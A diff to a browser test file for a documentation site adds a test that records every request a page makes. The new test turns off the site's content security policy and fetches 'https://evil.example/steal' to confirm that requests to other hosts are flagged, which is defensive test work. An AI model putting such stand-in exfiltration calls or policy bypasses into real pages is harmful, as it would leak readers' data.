@@ -1,6 +1,7 @@
 """The tabs of tests that only look at pages (conftest's looking_tab, behind reader_tab and print_tab):
 the page as a reader sees it before its search is ready, and the browser's cache kept from page to
-page; the tabs of tests that use a page (open_page) start search as a reader's browser does."""
+page; the tabs of tests that use a page (open_page) start search as a reader's browser does and
+record every request the page makes."""
 
 from __future__ import annotations
 
@@ -22,6 +23,15 @@ def test_a_tab_that_uses_the_page_starts_the_search_worker(open_page):
     started = [worker.url for worker in page.workers if SEARCH_WORKER in worker.url]
     assert len(started) == 1, (f"a test's own tab started search workers {started}, not one as a reader's browser "
                                "does: SEARCH_NOT_STARTED (tests/conftest.py) belongs to looking_tab only")
+
+
+def test_a_tab_that_uses_the_page_records_its_requests_and_names_those_to_other_hosts(open_page, site_url):
+    page, visit = open_page("basics/image/", bypass_csp=True)  # the site's policy would stop the fetch first
+    page.evaluate("() => fetch('https://evil.example/steal').catch(() => null)")
+    own = [url for url in visit.requests if url.startswith(site_url + "assets/stylesheets/")]
+    assert own and visit.foreign_requests == ["https://evil.example/steal"], (
+        f"a test's own tab recorded {len(own)} of the page's stylesheets and {visit.foreign_requests} as foreign, after "
+        "a fetch of https://evil.example/steal: load_page in tests/conftest.py must record every request the page makes")
 
 
 STYLESHEETS = """fetched => performance.getEntriesByType('resource')
